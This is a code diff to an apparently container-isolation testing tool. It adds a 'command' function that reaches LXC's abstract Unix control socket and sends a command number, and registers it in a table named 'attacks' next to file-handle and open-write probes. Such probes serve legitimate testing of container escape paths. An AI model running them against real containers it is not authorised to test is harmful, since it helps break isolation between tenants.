@@ -77,6 +77,26 @@ int connect_to(int argc, char** argv) {
   return 0;
 }
 
+/// Asks whoever has an abstract address for a command of LXC: command ADDRESS NUMBER.
+int command(int argc, char** argv) {
+  if (argc < 5) return 2;
+  sockaddr_un where{};
+  where.sun_family = AF_UNIX;
+  std::strncpy(where.sun_path + 1, argv[3], sizeof where.sun_path - 2);
+  const int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  const auto size =
+      static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + std::strlen(where.sun_path + 1));
+  const int request[4] = {std::atoi(argv[4])};
+  int answer[4] = {};
+  if (connect(s, reinterpret_cast<sockaddr*>(&where), size) != 0 ||
+      send(s, request, sizeof request, MSG_NOSIGNAL) != static_cast<ssize_t>(sizeof request) ||
+      recv(s, answer, sizeof answer, MSG_WAITALL) != static_cast<ssize_t>(sizeof answer))
+    std::printf("answer=%s\n", came_of(-1));
+  else
+    std::printf("answer=%d\n", answer[0]);
+  return 0;
+}
+
 /// Opens a file of the file system that "/" is on by its handle: handle TYPE BYTES-IN-HEX.
 int handle(int argc, char** argv) {
   if (argc < 5) return 2;
@@ -398,6 +418,7 @@ constexpr struct {
 } attacks[] = {{"reach", reach},
                {"type", type},
                {"connect", connect_to},
+               {"command", command},
                {"handle", handle},
                {"key", key},
                {"open-write", open_write},
